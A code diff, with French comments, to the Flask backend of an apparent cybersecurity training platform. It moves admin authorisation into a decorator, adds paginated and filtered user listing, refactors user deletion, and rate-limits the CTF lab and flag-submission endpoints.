 @app.route('/api/admin/stats')
+@auth.require_admin
 def get_admin_stats():
     """Obtenir les statistiques pour le dashboard admin"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
         stats = {
-            "total_users": len(users_db),
-            "total_modules": len(modules_data),
-            "total_quizzes": len([f for f in os.listdir(os.path.join(os.path.dirname(__file__), 'quests')) if f.endswith('.json')]),
-            "active_sessions": len(sessions_db)
+            "total_users": db.count_users(),
+            "total_modules": len(module_store),
+            "total_quizzes": len(quest_catalog),
+            "active_sessions": sessions.active_count(),
+            "module_completions": db.get_completion_counts('module'),
+            "quiz_completions": db.get_completion_counts('quiz')
         }
         
         return jsonify(stats), 200
@@ -1626,62 +692,63 @@ def get_admin_stats():
     except Exception as e:
         return jsonify({"error": str(e)}), 500
 
+def parse_bool_arg(value):
+    """Interpréter un paramètre booléen de query string (None si absent)"""
+    if value is None or value == '':
+        return None
+    return value.lower() in ('1', 'true', 'yes', 'oui')
+
 @app.route('/api/admin/users')
+@auth.require_admin
 def get_all_users():
-    """Obtenir la liste de tous les utilisateurs"""
+    """Lister les utilisateurs (pagination par curseur, projection, filtres)
+
+    Paramètres : after (curseur), limit, fields (liste séparée par des virgules),
+    min_level, max_level, is_admin, prefix, format=ndjson pour un flux complet.
+    """
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
-        # Récupérer tous les utilisateurs depuis la base de données SQLite
-        all_users = db.get_all_users()
-        
-        users_list = []
-        for user_data in all_users:
-            users_list.append({
-                "username": user_data.get("username", ""),
-                "email": user_data.get("email", ""),
-                "level": user_data.get("level", 1),
-                "xp": user_data.get("experience", 0),
-                "is_admin": bool(user_data.get("is_admin", 0)),
-                "completed_modules": json.loads(user_data.get("completed_modules", "[]")),
-                "completed_quizzes": json.loads(user_data.get("completed_quizzes", "[]"))
-            })
+        fields = request.args.get('fields')
+        filters = {
+            "fields": [f.strip() for f in fields.split(',') if f.strip()] if fields else None,
+            "min_level": request.args.get('min_level', type=int),
+            "max_level": request.args.get('max_level', type=int),
+            "is_admin": parse_bool_arg(request.args.get('is_admin')),
+            "name_prefix": request.args.get('prefix') or None
+        }
+        
+        # Flux NDJSON : une ligne par utilisateur, lu page par page
+        if request.args.get('format') == 'ndjson':
+            def generate():
+                for user in db.iter_users(**filters):
+                    yield json.dumps(user, ensure_ascii=False) + '\n'
+            return Response(stream_with_context(generate()), mimetype='application/x-ndjson')
+        
+        users_list, next_cursor = db.list_users(
+            after_id=request.args.get('after', 0, type=int),
+            limit=request.args.get('limit', db.USER_LIST_PAGE_SIZE, type=int),
+            **filters
+        )
         
         print(f"👥 [ADMIN] {len(users_list)} utilisateurs chargés depuis SQLite")
         
-        return jsonify({"users": users_list}), 200
+        return jsonify({"users": users_list, "next_cursor": next_cursor}), 200
         
     except Exception as e:
         print(f"❌ [ADMIN] Erreur: {e}")
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/admin/users/<username>', methods=['DELETE'])
+@auth.require_admin
 def delete_user(username):
     """Supprimer un utilisateur"""
     try:
-        auth_header = request.headers.get('Authorization')
-        if not auth_header:
-            return jsonify({"error": "No authorization token"}), 401
-        
-        token = auth_header.replace('Bearer ', '')
-        admin = verify_admin(token)
-        if not admin:
-            return jsonify({"error": "Admin access required"}), 403
-        
         # Vérifier que l'utilisateur existe dans SQLite
         user = db.get_user_by_username(username)
         if not user:
             return jsonify({"error": "User not found"}), 404
         
         # Empêcher la suppression de son propre compte
-        if admin == username:
+        if g.username == username:
             return jsonify({"error": "Cannot delete your own account"}), 400
         
         # Empêcher la suppression d'un admin
@@ -1689,19 +756,13 @@ def delete_user(username):
             return jsonify({"error": "Cannot delete admin accounts"}), 403
         
         # Supprimer l'utilisateur de SQLite
-        import sqlite3
-        conn = sqlite3.connect('backend/cyberforge.db')
-        cursor = conn.cursor()
-        cursor.execute('DELETE FROM users WHERE username = ?', (username,))
-        conn.commit()
-        conn.close()
+        db.delete_user(username)
+        progress_sync.forget(username)
         
         print(f"🗑️ [ADMIN] Utilisateur '{username}' supprimé")
         
         # Supprimer aussi les sessions associées
-        sessions_to_remove = [sid for sid, uname in sessions_db.items() if uname == username]
-        for sid in sessions_to_remove:
-            del sessions_db[sid]
+        sessions.revoke_user(username)
         
         return jsonify({"message": "User deleted successfully"}), 200
         
@@ -1913,6 +974,7 @@ def handle_leave_room_event():
         emit('left_room', {'message': 'Vous avez quitté la salle'})
 
 @app.route("/api/start-lab", methods=["POST"])
+@rate_limiter.limit('start-lab')
 def start_lab_api():
     """Start a CTF lab environment"""
     try:
@@ -1974,6 +1036,7 @@ def stop_lab_api():
 
 
 @app.route("/api/submit-flag", methods=["POST"])
+@rate_limiter.limit('submit-flag')
 def submit_flag_api():
     """Submit a flag for a CTF challenge"""
     try: